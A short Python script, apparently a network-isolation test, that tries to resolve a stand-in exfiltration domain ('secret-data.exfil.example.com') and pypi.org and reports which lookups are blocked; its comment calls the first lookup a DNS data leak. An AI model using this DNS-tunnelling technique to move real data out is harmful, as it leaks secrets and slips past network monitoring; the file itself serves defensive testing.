# Hostile: leaks data through DNS look-ups.
import socket
for name in ("secret-data.exfil.example.com", "pypi.org"):
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 443)[0][4])
    except OSError as error:
        print(f"blocked {name}: {error}")
